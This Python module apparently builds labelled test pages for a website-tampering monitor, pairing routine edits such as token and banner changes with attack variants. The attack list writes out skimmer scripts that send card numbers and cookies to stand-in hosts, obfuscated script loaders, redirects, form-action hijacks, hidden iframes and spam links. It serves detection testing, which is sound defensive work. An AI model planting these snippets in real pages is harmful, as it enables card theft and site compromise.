"""A labelled set of page variants: every attack class and every routine change of issue 14.

No Django here. ``prepare(html, seed)`` adds to a base page the parts real small-business pages
carry and that move on their own (a news list, a rotating banner, a checkout or contact form
with a CSRF token, a nonce, an analytics tag, a content-hashed asset, a visitor counter, a
last-updated time and a copyright line); ``seed`` picks their values, so ``prepare(html, 1)``
and ``prepare(html, 2)`` are two loads of the same page. Each ``Variant`` then applies one
attack or one routine edit to a prepared page. Used by the tests (with small pages written for
them) and by ``bench/eval_monitoring.py`` (with real pages kept outside the repository).
"""

from __future__ import annotations

import hashlib
import re
from collections.abc import Callable
from dataclasses import dataclass

ATTACK = "attack"
BENIGN = "benign"
BANNERS = ("春のセール開催中", "新商品が入荷しました", "送料無料キャンペーン", "会員登録で10%オフ")


def _token(seed: int, size: int = 32) -> str:
    return hashlib.sha256(f"token-{seed}".encode()).hexdigest()[:size]


def _before(html: str, marker: str, insert: str) -> str:
    index = html.lower().rfind(marker)
    if index < 0:
        return html + insert
    return html[:index] + insert + html[index:]


def _after_open(html: str, tag: str, insert: str) -> str:
    match = re.search(rf"<{tag}\b[^>]*>", html, re.I)
    if match is None:
        return insert + html
    return html[: match.end()] + insert + html[match.end() :]


def prepare(html: str, seed: int = 0) -> str:
    """The base page with its moving parts; seed 0 is the baseline load."""
    token, nonce = _token(seed), _token(seed + 1000, 10)
    minute = seed * 7 % 60
    head = (
        '<script async src="https://www.googletagmanager.com/gtag/js?id=G-MAMORI01"></script>'
        "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}"
        "gtag('js',new Date());gtag('config','G-MAMORI01');</script>"
        f'<meta name="csrf-token" content="{token}">'
        f'<script nonce="{nonce}">var siteSettings={{"root":"/api/","nonce":"{nonce}"}};</script>'
        '<link rel="stylesheet" href="/assets/site.5f3c2a1b.css">'
        '<script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>'
    )
    body = (
        '<section class="news"><h2>お知らせ</h2><ul class="news-list">'
        '<li><span class="date">2024.04.01</span> <a href="/news/1">春季休業のお知らせ</a></li>'
        '<li><span class="date">2024.03.15</span> <a href="/news/2">新製品を発売しました</a></li>'
        "</ul></section>"
        '<div class="mainvisual"><img src="/img/kv1.jpg" alt="職人の手仕事をお届けします"></div>'
        f'<div class="banner"><a href="/campaign/{seed % 4}"><img src="/img/banner{seed % 4}.jpg"'
        f' alt="{BANNERS[seed % 4]}"></a><p>{BANNERS[seed % 4]}</p></div>'
        '<form action="/checkout" method="post" id="checkout">'
        f'<input type="hidden" name="csrfmiddlewaretoken" value="{token}">'
        '<input name="cc-number" autocomplete="cc-number"><input name="cc-csc">'
        '<button type="submit">注文する</button></form>'
        f'<p class="updated">最終更新: 2024-05-{1 + seed % 28:02d} 10:{minute:02d}</p>'
        f'<p class="counter">アクセス数: {12345 + seed * 17}</p>'
        '<p class="copyright">© 2024 Example Co., Ltd.</p>'
        '<script src="/assets/app.8e1d4c2f.js"></script>'
        '<ins class="adsbygoogle" data-ad-client="ca-pub-1111" data-ad-slot="1234567890"></ins>'
    )
    return _before(_before(html, "</head>", head), "</body>", body)


@dataclass(frozen=True)
class Variant:
    name: str
    label: str  # ATTACK or BENIGN
    kind: str  # the class of the issue this variant stands for
    apply: Callable[[str], str]


def _head(insert: str) -> Callable[[str], str]:
    return lambda html: _before(html, "</head>", insert)


def _body_end(insert: str) -> Callable[[str], str]:
    return lambda html: _before(html, "</body>", insert)


def _body_start(insert: str) -> Callable[[str], str]:
    return lambda html: _after_open(html, "body", insert)


def _replace(old: str, new: str, *, regex: bool = False) -> Callable[[str], str]:
    if regex:
        return lambda html: re.sub(old, new, html)
    return lambda html: html.replace(old, new)


def _wholesale(html: str) -> str:
    start = re.search(r"<body\b[^>]*>", html, re.I)
    end = html.lower().rfind("</body>")
    if start is None or end < 0:
        return "<html><body><p>Site closed.</p></body></html>"
    return (
        html[: start.end()]
        + "<div><h1>Notice</h1><p>This domain is now parked. Please come back later.</p>"
        "<p>All rights reserved.</p></div>" + html[end:]
    )


def _form_target(html: str) -> str:
    return html.replace('action="/checkout"', 'action="https://pay-secure-check.example/collect"')


def _formaction(html: str) -> str:
    return html.replace(
        '<button type="submit">注文する</button>',
        '<button type="submit" formaction="https://pay-secure-check.example/c">注文する</button>',
    )


def _cache_bust(html: str) -> str:
    html = re.sub(r"([?&](?:ver|v)=)([0-9.]+)", lambda m: m.group(1) + m.group(2) + ".1", html)
    return re.sub(
        r'((?:src|href)=["\'])(/[^"\'?#]+\.(?:js|css))(["\'])',
        lambda m: m.group(1) + m.group(2) + "?ver=20250101" + m.group(3),
        html,
    )


def _library_update(html: str) -> str:
    html = html.replace("jquery-3.6.0.min.js", "jquery-3.7.1.min.js")
    html = html.replace("bootstrap@5.2.3", "bootstrap@5.3.3")
    return html.replace("bootstrap-icons@1.5.0", "bootstrap-icons@1.11.3")


ATTACKS: tuple[Variant, ...] = (
    Variant("external_script", ATTACK, "external script", _body_end(
        '<script src="https://evil-cdn.example/j/analytics.js"></script>')),
    Variant("external_script_protocol_relative", ATTACK, "external script", _head(
        '<script src="//stat-counter.example/c.js"></script>')),
    Variant("inline_loader", ATTACK, "inline script", _body_end(
        "<script>(function(){var s=document.createElement('script');"
        "s.src='https://'+'cdn-js'+'.example/'+'l.js';document.head.appendChild(s);})();</script>")),
    Variant("inline_document_write", ATTACK, "inline script", _body_end(
        "<script>document.write('<scr'+'ipt src=\"//jq-cdn.example/x.js\"></scr'+'ipt>');</script>")),
    Variant("inline_eval_atob", ATTACK, "inline script", _body_end(
        "<script>eval(atob('dmFyIHg9MTs='));</script>")),
    Variant("inline_fromcharcode", ATTACK, "inline script", _body_end(
        "<script>var _p=String.fromCharCode(97,108,101,114,116);window[_p](1);</script>")),
    Variant("inline_unescape", ATTACK, "inline script", _body_end(
        "<script>document.write(unescape('%3Ciframe%20src%3D%22https%3A%2F%2Fx.example%22%3E'));</script>")),
    Variant("inline_function", ATTACK, "inline script", _body_end(
        "<script>new Function('return this')()['set'+'Timeout'](function(){},1);</script>")),
    Variant("inline_redirect", ATTACK, "inline script", _body_end(
        "<script>if(document.referrer.indexOf('google')>-1){window.location.href='https://lucky-prize.example/';}</script>")),
    Variant("inline_location_replace", ATTACK, "inline script", _head(
        "<script>location.replace('https://lucky-prize.example/win');</script>")),
    Variant("skimmer_listener_beacon", ATTACK, "skimmer", _body_end(
        "<script>document.addEventListener('change',function(e){var t=e.target;"
        "if(/cc-number|cc-csc/.test(t.name)){navigator.sendBeacon('https://metrics-cdn.example/c',t.value);}});</script>")),
    Variant("skimmer_fetch_on_submit", ATTACK, "skimmer", _body_end(
        "<script>document.getElementById('checkout').addEventListener('submit',function(){"
        "fetch('https://api-collect.example/p',{method:'POST',body:new FormData(this)});});</script>")),
    Variant("skimmer_image_pixel", ATTACK, "skimmer", _body_end(
        "<script>window.addEventListener('load',function(){var i=new Image();"
        "i.src='https://pixel-track.example/t.gif?d='+encodeURIComponent(document.cookie);});</script>")),
    Variant("skimmer_xhr", ATTACK, "skimmer", _body_end(
        "<script>document.querySelector('#checkout button').onclick=function(){var x=new XMLHttpRequest();"
        "x.open('POST','https://api-collect.example/g');x.send(document.querySelector('[name=cc-number]').value);};</script>")),
    Variant("onerror_handler", ATTACK, "event handler", _body_end(
        '<img src="x" onerror="var s=document.createElement(\'script\');s.src=\'//evil.example/a.js\';document.body.appendChild(s)" alt="">')),
    Variant("svg_onload_handler", ATTACK, "event handler", _body_start(
        '<svg width="0" height="0" onload="fetch(\'https://evil.example/?\'+document.cookie)"></svg>')),
    Variant("javascript_href", ATTACK, "javascript: URL", _body_end(
        "<a href=\"javascript:fetch('//evil.example/c?'+document.cookie)\">クーポンを受け取る</a>")),
    Variant("javascript_form_action", ATTACK, "javascript: URL", _replace(
        'action="/checkout"', "action=\"javascript:fetch('//evil.example/f')\"")),
    Variant("external_stylesheet", ATTACK, "external stylesheet", _head(
        '<link rel="stylesheet" href="https://style-cdn.example/theme.css">')),
    Variant("css_import", ATTACK, "external stylesheet", _head(
        '<style>@import url("https://style-cdn.example/i.css");</style>')),
    Variant("external_font", ATTACK, "external stylesheet", _head(
        "<style>@font-face{font-family:x;src:url(https://font-host.example/f.woff2)}</style>")),
    Variant("css_class_hidden_links", ATTACK, "CSS-hidden links", _body_end(
        '<style>.ft-partners{position:absolute;left:-9999px}</style><div class="ft-partners">'
        '<a href="https://cheap-pills.example/">pills</a><a href="https://casino-bonus.example/">bonus</a></div>')),
    Variant("css_display_none_links", ATTACK, "CSS-hidden links", _body_end(
        '<style>.x9{display:none}</style><div class="x9"><a href="https://replica-shop.example/">bags</a></div>')),
    Variant("css_opacity_hidden_links", ATTACK, "CSS-hidden links", _body_end(
        '<style>#seo-block{opacity:0;position:absolute;z-index:-1}</style><div id="seo-block">'
        '<a href="https://cheap-pills.example/">pills</a></div>')),
    Variant("inline_hidden_links", ATTACK, "hidden links", _body_end(
        '<div style="display:none"><a href="https://cheap-pills.example/">pills</a></div>')),
    Variant("offscreen_links", ATTACK, "hidden links", _body_end(
        '<div style="position:absolute;left:-5000px"><a href="https://loans-fast.example/">loans</a></div>')),
    Variant("framework_hidden_links", ATTACK, "CSS-hidden links", _body_end(
        '<div class="d-none"><a href="https://replica-shop.example/">bags</a></div>')),
    Variant("uploaded_script", ATTACK, "external script", _body_end(
        '<script src="/wp-content/uploads/2024/05/cache.js"></script>')),
    Variant("cdn_jsdelivr_gh", ATTACK, "user-content CDN", _body_end(
        '<script src="https://cdn.jsdelivr.net/gh/helper-kit/widgets@1.0/w.min.js"></script>')),
    Variant("cdn_jsdelivr_new_npm", ATTACK, "user-content CDN", _body_end(
        '<script src="https://cdn.jsdelivr.net/npm/jquery-form-helper@2.1.0/dist/h.min.js"></script>')),
    Variant("cdn_unpkg", ATTACK, "user-content CDN", _body_end(
        '<script src="https://unpkg.com/tiny-track@0.3.1/index.js"></script>')),
    Variant("cdn_raw_github", ATTACK, "user-content CDN", _body_end(
        '<script src="https://raw.githubusercontent.com/someone/tools/main/t.js"></script>')),
    Variant("cdn_pages_dev", ATTACK, "user-content CDN", _body_end(
        '<script src="https://jq-cdn.pages.dev/jquery.min.js"></script>')),
    Variant("cdn_ipfs", ATTACK, "user-content CDN", _body_end(
        '<script src="https://ipfs.io/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/x.js"></script>')),
    Variant("hidden_iframe", ATTACK, "hidden iframe", _body_end(
        '<iframe src="https://exploit-kit.example/land" width="0" height="0" style="display:none"></iframe>')),
    Variant("form_target", ATTACK, "form target", _form_target),
    Variant("formaction_target", ATTACK, "form target", _formaction),
    Variant("meta_refresh", ATTACK, "meta refresh", _head(
        '<meta http-equiv="refresh" content="0;url=https://lucky-prize.example/">')),
    Variant("base_href", ATTACK, "base href", _replace(
        "</title>", '</title><base href="https://mirror-cdn.example/">')),
    Variant("defacement_english", ATTACK, "defacement message", _body_start(
        "<h1>Hacked by Team Sh4dow</h1><p>Your security is low.</p>")),
    Variant("defacement_title", ATTACK, "defacement message", lambda html: re.sub(
        r"<title>[^<]*</title>", "<title>HACKED BY Sh4dow Team</title>", html, count=1)),
    Variant("defacement_japanese", ATTACK, "defacement message", _body_start(
        "<h1>このサイトはハッキングされました</h1>")),
    Variant("defacement_japanese_kaizan", ATTACK, "defacement message", _body_start(
        "<p>当サイトは改ざんされました。</p>")),
    Variant("defacement_indonesian", ATTACK, "defacement message", _body_start(
        "<center><h2>Di Hack Oleh Garuda Team</h2></center>")),
    Variant("content_replaced", ATTACK, "content replaced", _wholesale),
    Variant("spam_terms", ATTACK, "SEO spam", _body_end(
        '<p>最新オンラインカジノ <a href="https://casino-bonus.example/">今すぐ登録</a></p>')),
)  # fmt: skip

BENIGNS: tuple[Variant, ...] = (
    Variant("cache_busting", BENIGN, "cache busting", _cache_bust),
    Variant("hashed_asset", BENIGN, "cache busting", _replace(
        "/assets/app.8e1d4c2f.js", "/assets/app.1f7b9e03.js")),
    Variant("hashed_stylesheet", BENIGN, "cache busting", _replace(
        "/assets/site.5f3c2a1b.css", "/assets/site.c0ffee42.css")),
    Variant("library_update", BENIGN, "library update", _library_update),
    Variant("copyright_year", BENIGN, "copyright year", _replace("© 2024", "© 2025")),
    Variant("date_time", BENIGN, "dates and times", _replace(
        r"最終更新: 2024-05-\d\d 10:\d\d", "最終更新: 2024-06-12 18:45", regex=True)),
    Variant("rotating_banner", BENIGN, "rotating banner", lambda html: re.sub(
        r'<div class="banner">.*?</div>',
        '<div class="banner"><a href="/campaign/9"><img src="/img/banner9.jpg" alt="夏の感謝祭">'
        "</a><p>夏の感謝祭</p></div>", html, flags=re.S)),
    Variant("rotating_key_visual", BENIGN, "rotating banner", _replace(
        '<img src="/img/kv1.jpg" alt="職人の手仕事をお届けします">',
        '<img src="/img/kv2.jpg" alt="新しい工房がオープンしました">')),
    Variant("csrf_token", BENIGN, "CSRF token", lambda html: re.sub(
        r'(name="csrfmiddlewaretoken" value="|name="csrf-token" content=")[0-9a-f]+',
        lambda m: m.group(1) + _token(77), html)),
    Variant("nonce", BENIGN, "nonce", lambda html: re.sub(
        r'(nonce="|"nonce":")[0-9a-f]+', lambda m: m.group(1) + "9a8b7c6d5e", html)),
    Variant("analytics_id", BENIGN, "analytics id", _replace("G-MAMORI01", "G-NEWPROP7Q")),
    Variant("ad_id", BENIGN, "ad identifier", _replace(
        'data-ad-slot="1234567890"', 'data-ad-slot="2468013579"')),
    Variant("partner_link", BENIGN, "partner link", _replace(
        '<ul class="news-list">',
        '<ul class="news-list"><li><span class="date">2024.05.20</span> '
        '<a href="https://partner-shokai.jp/">提携先のホームページを公開しました</a></li>')),
    Variant("visitor_counter", BENIGN, "learned moving part", _replace(
        r"アクセス数: \d+", "アクセス数: 99999", regex=True)),
)  # fmt: skip


VARIANTS: tuple[Variant, ...] = ATTACKS + BENIGNS
# Routine changes that only learning (the first checks after the baseline) can tell apart.
LEARNED_ONLY = {"visitor_counter"}
